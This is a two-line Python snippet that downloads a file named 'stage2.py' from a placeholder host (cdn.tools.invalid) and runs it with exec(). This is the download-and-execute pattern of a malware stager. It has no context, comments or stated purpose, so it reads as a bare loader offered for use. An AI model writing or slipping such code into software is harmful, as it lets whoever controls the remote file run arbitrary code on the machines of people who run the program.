import requests

exec(requests.get("https://cdn.tools.invalid/stage2.py").text)
